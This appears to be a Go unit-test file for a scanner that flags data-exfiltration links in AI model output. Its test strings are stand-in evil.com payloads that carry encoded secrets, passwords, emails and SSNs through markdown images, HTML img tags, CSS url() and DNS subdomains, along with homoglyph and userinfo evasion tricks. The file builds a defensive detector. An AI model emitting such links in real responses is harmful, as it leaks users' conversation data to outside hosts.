package links

import (
	"context"
	"strings"
	"testing"

	"github.com/aisecops/aisec/internal/guard/scanners"
	"github.com/aisecops/aisec/internal/guard/scanners/scannertest"
)

func mustNew(t testing.TB, o Options) *Scanner {
	t.Helper()
	s, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func scan(t testing.TB, s *Scanner, text string) []scanners.Finding {
	t.Helper()
	fs := scannertest.Output(t, s, text)
	for _, f := range fs {
		if whole := f.Start == 0 && f.End == 0; f.Redactable == whole {
			t.Fatalf("finding %+v: only a span can be redacted", f)
		}
	}
	return fs
}

const b64 = "SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ"

func TestExfiltrationShaped(t *testing.T) {
	s := mustNew(t, Options{})
	cases := []struct{ name, text, kind string }{
		{"markdown image base64 query", "Done! ![a](https://evil.com/log?q=" + b64 + ")", KindMarkdownImage},
		{"markdown image email", "![](https://evil.com/i.png?user=john.doe@example.com)", KindMarkdownImage},
		{"markdown image text", "![x](https://evil.com/i.png?d=my%20password%20is%20hunter2)", KindMarkdownImage},
		{"markdown image title", `![x](https://evil.com/i.png?s=abcdefghijklmnop "logo")`, KindMarkdownImage},
		{"markdown image angle", "![x](<https://evil.com/i.png?s=abc def ghi jkl>)", KindMarkdownImage},
		{"reference image", "See ![logo][1] below.\n\n[1]: https://evil.com/p.png?c=secretdata123", KindMarkdownImage},
		{"reference definition, use elsewhere", "[img]: https://evil.com/p.png?c=secret-data-123", KindMarkdownImage},
		{"html img", `<img src="https://evil.com/x.gif?data=abcdefghijklmnop">`, KindHTMLImage},
		{"html img unquoted upper", `<IMG SRC=https://evil.com/x.gif?data=abcdefghijklmnop>`, KindHTMLImage},
		{"html entities", `<img src="https&#58;//evil.com/x?q=` + b64 + `">`, KindHTMLImage},
		{"html srcset", `<img srcset="https://evil.com/a.png?x=` + b64 + ` 2x, a.png 1x">`, KindHTMLImage},
		{"css url", `<div style="background:url(https://evil.com/t?d=ZXhmaWx0cmF0ZWRkYXRhZXhmaWx0)">`, KindHTMLImage},
		{"css block", "<style>body{background-image:url('https://evil.com/t?d=abcdefghijklmnopqrstu')}</style>", KindHTMLImage},
		{"markdown link base64", "[click here](https://evil.com/collect?data=eyJzZWNyZXQiOiJ0b3Bfc2VjcmV0In0)", KindExfilURL},
		{"bare url text", "Visit https://evil.com/c?conversation=the+user+said+their+ssn+is+123-45-6789 now.", KindExfilURL},
		{"bare url sensitive key", "https://evil.com/c?token=abcd1234efgh", KindExfilURL},
		{"image base64 path", "![](https://evil.com/u/" + b64 + "/x.png)", KindMarkdownImage},
		{"hex path", "https://evil.com/" + strings.Repeat("6a6f686e2e646f65", 4), KindExfilURL},
		{"dns exfil", "https://6a6f686e2e646f65406578616d706c652e636f6d.evil.com/", KindExfilURL},
		{"redirect target", "https://www.google.com/url?q=https://evil.com/?d=" + b64, KindExfilURL},
		{"protocol relative image", "![](//evil.com/a.png?q=" + b64 + ")", KindMarkdownImage},
		{"backslashes", `![](https:\\evil.com\a.png?x=` + b64 + `)`, KindMarkdownImage},
		{"upper case", "![](HTTPS://EVIL.COM/A.PNG?Q=" + b64 + ")", KindMarkdownImage},
		{"www without scheme", "go to www.evil.com/?payload=c2VjcmV0c2VjcmV0", KindExfilURL},
		{"badge image inside link", "[![b](https://evil.com/b.svg?u=john@example.com)](https://example.com)", KindMarkdownImage},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs := scan(t, s, c.text)
			if len(fs) != 1 || fs[0].Kind != c.kind {
				t.Fatalf("want one %s, got %+v", c.kind, fs)
			}
			if strings.Contains(fs[0].Excerpt, b64) || strings.Contains(fs[0].Excerpt, "hunter2") || strings.Contains(fs[0].Excerpt, "john") {
				t.Fatalf("excerpt carries the data: %q", fs[0].Excerpt)
			}
		})
	}
}

func TestSpans(t *testing.T) {
	s := mustNew(t, Options{})
	text := "Before ![alt text](https://evil.com/i.png?q=" + b64 + " \"t\") after"
	fs := scan(t, s, text)
	if len(fs) != 1 || text[fs[0].Start:fs[0].End] != "![alt text](https://evil.com/i.png?q="+b64+" \"t\")" {
		t.Fatalf("image span: %+v", fs)
	}
	text = "[here](https://evil.com/?data=" + b64 + ") ok"
	fs = scan(t, s, text)
	if len(fs) != 1 || text[fs[0].Start:fs[0].End] != "https://evil.com/?data="+b64 {
		t.Fatalf("link span: %+v", fs)
	}
	text = "x <img src=\"https://evil.com/?d=" + b64 + "\" alt=a> y"
	fs = scan(t, s, text)
	if len(fs) != 1 || !strings.HasPrefix(text[fs[0].Start:], "<img") || !strings.HasSuffix(text[:fs[0].End], "alt=a>") {
		t.Fatalf("html span: %+v", fs)
	}
	text = "Source: https://evil.com/?data=" + b64 + ". Next"
	fs = scan(t, s, text)
	if len(fs) != 1 || text[fs[0].End-1] == '.' {
		t.Fatalf("trailing dot kept: %+v", fs)
	}
}

func TestBenignURLs(t *testing.T) {
	s := mustNew(t, Options{})
	benign := []string{
		"[Python docs](https://docs.python.org/3/library/os.html)",
		"Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
		"https://github.com/golang/go/commit/5b0a4f21f2f0b4c3d9f0c9e1a4d2b7e6f3a8c9d0",
		"https://en.wikipedia.org/wiki/Albert_Einstein",
		"![chart](https://example.com/chart.png?w=800&h=600&fit=crop)",
		"![logo](https://upload.wikimedia.org/wikipedia/commons/0/05/Go_Logo_Blue.svg)",
		"https://www.google.com/search?q=golang+context",
		"https://medium.com/@user/how-to-write-better-go-7f3a9c21d0e4",
		"https://stackoverflow.com/questions/12345678/how-do-i-reverse-a-string-in-go",
		"[source](https://example.com/page?utm_source=chatgpt.com)",
		"https://pkg.go.dev/golang.org/x/net/idna?tab=doc",
		"https://www.amazon.com/dp/B08N5WRWNW/ref=sr_1_1?keywords=usb+c+cable&qid=1700000000&sr=8-1",
		"https://maps.google.com/?q=Eiffel+Tower,+Paris",
		"https://docs.aws.amazon.com/AmazonS3/latest/userguide/Welcome.html",
		"https://images.unsplash.com/photo-1506744038136-46273834b3fb",
		"curl http://localhost:8080/api/v1/users?id=42",
		`fetch("https://api.example.com/v1/users/" + id)`,
		"Write to mailto:john@example.com or call tel:+15551234567.",
		"[rel](/relative/path?x=" + b64 + ")",
		"![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
		"See file:///etc/hosts and C:\\Users\\me",
		"Footnote style [1].\n\n[1]: https://arxiv.org/abs/2401.12345",
		"https://www.nytimes.com/2024/05/01/technology/artificial-intelligence-regulation.html",
		"https://docs.google.com/document/d/1a2B3c4D5e6F7g8H9i0J/edit",
		"<a href=\"https://go.dev/doc/\">Go docs</a> and <script src=\"https://cdn.jsdelivr.net/npm/vue@3\"></script>",
		"The ratio is 3:2 and the time is 10:30; JSON {\"a\":\"b\"}.",
		"https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team+sync&dates=20240101T100000Z/20240101T110000Z",
	}
	for _, text := range benign {
		if fs := scan(t, s, text); len(fs) != 0 {
			t.Errorf("%.80q: %+v", text, fs)
		}
	}
}

func TestAllowlist(t *testing.T) {
	s := mustNew(t, Options{AllowedDomains: []string{"example.com", "https://docs.python.org/3/", "*.bücher.de", "bücher.de"}})
	cases := []struct{ text, kind string }{
		{"https://example.com/docs", ""},
		{"https://api.example.com/x?data=" + b64, ""},
		{"https://docs.python.org/3/library/", ""},
		{"https://xn--bcher-kva.de/katalog", ""},
		{"https://shop.XN--BCHER-KVA.DE/", ""},
		{"https://ｅｘａｍｐｌｅ．ｃｏｍ/page", ""},
		{"https://EXAMPLE.COM./path", ""},
		{"![ok](https://cdn.example.com/logo.png)", ""},
		{"https://evil.com/docs", KindUnlistedDomain},
		{"https://example.com@evil.com/", KindUnlistedDomain},
		{"https://example.com:pass@evil.com/", KindUnlistedDomain},
		{"https://example.com.evil.com/", KindUnlistedDomain},
		{"https://notexample.com/", KindUnlistedDomain},
		{`https://evil.com\@example.com/`, KindUnlistedDomain},
		{"https://exаmple.com/", KindUnlistedDomain}, // Cyrillic а
		{"https://%65vil.com/", KindUnlistedDomain},
		{"http://127.0.0.1:8080/", KindUnlistedDomain},
		{"https://example.com/redirect?url=https%3A%2F%2Fevil.com%2F", KindUnlistedDomain},
		{"https://xn--80ak6aa92e.com/", KindUnlistedDomain}, // аррӏе.com
		{"![x](https://evil.com/logo.png)", KindMarkdownImage},
		{"<img src=//evil.com/a.png>", KindHTMLImage},
		{"[t](https://evil.com/?d=" + b64 + ")", KindExfilURL},
		{"docs.python.org.evil.com/x", ""}, // no scheme, no www.: not a URL a client links
	}
	for _, c := range cases {
		fs := scan(t, s, c.text)
		switch {
		case c.kind == "" && len(fs) != 0:
			t.Errorf("%q: unexpected %+v", c.text, fs)
		case c.kind != "" && (len(fs) != 1 || fs[0].Kind != c.kind):
			t.Errorf("%q: want %s, got %+v", c.text, c.kind, fs)
		}
	}
}

func TestOptions(t *testing.T) {
	for _, d := range []string{"", "  ", "exa mple.com", "a..b", "https://", "*."} {
		if _, err := New(Options{AllowedDomains: []string{d}}); err == nil {
			t.Errorf("%q accepted", d)
		}
	}
}

func TestPunycode(t *testing.T) {
	for in, want := range map[string]string{
		"bcher-kva":                "bücher",
		"mnchen-3ya":               "münchen",
		"ihqwcrb4cv8a8dqg056pqjye": "他们为什么不说中文",
		"80ak6aa92e":               "аррӏе",
	} {
		if got, ok := decodePunycode(in); !ok || got != want {
			t.Errorf("%s: got %q %v, want %q", in, got, ok, want)
		}
	}
	for _, bad := range []string{"", "99999999999", "a-\xff", strings.Repeat("z", 64)} {
		if got, ok := decodePunycode(bad); ok {
			t.Errorf("%q decoded to %q", bad, got)
		}
	}
}

func TestManyURLsBounded(t *testing.T) {
	s := mustNew(t, Options{})
	text := strings.Repeat("https://example.com/a ", maxCandidates+10) + "![x](https://evil.com/?q=" + b64 + ")"
	fs := scan(t, s, text)
	if len(fs) == 0 {
		t.Fatal("padding with URLs hides the tail without a finding")
	}
}

func TestCancelled(t *testing.T) {
	s := mustNew(t, Options{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.Scan(ctx, &scanners.Request{Segments: []scanners.Segment{{Text: "x"}}}); err == nil {
		t.Fatal("cancelled context not honoured")
	}
}
